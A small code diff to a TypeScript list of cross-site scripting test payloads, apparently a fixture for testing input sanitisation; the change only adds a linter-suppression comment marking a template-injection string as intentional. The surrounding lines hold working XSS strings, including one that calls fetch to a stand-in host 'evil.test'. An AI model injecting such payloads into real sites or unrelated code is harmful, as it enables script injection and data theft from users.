@@ -40,6 +40,7 @@ export const XSS_PAYLOADS: string[] = [
   "' onfocus='alert(37)' autofocus='",
   '`onerror=alert(38)`',
   "{{constructor.constructor('alert(39)')()}}",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, on purpose
   '${alert(40)}',
   "<img src=x onerror=fetch('http://evil.test/41')>",
   '\\u003cscript\\u003ealert(42)\\u003c/script\\u003e',
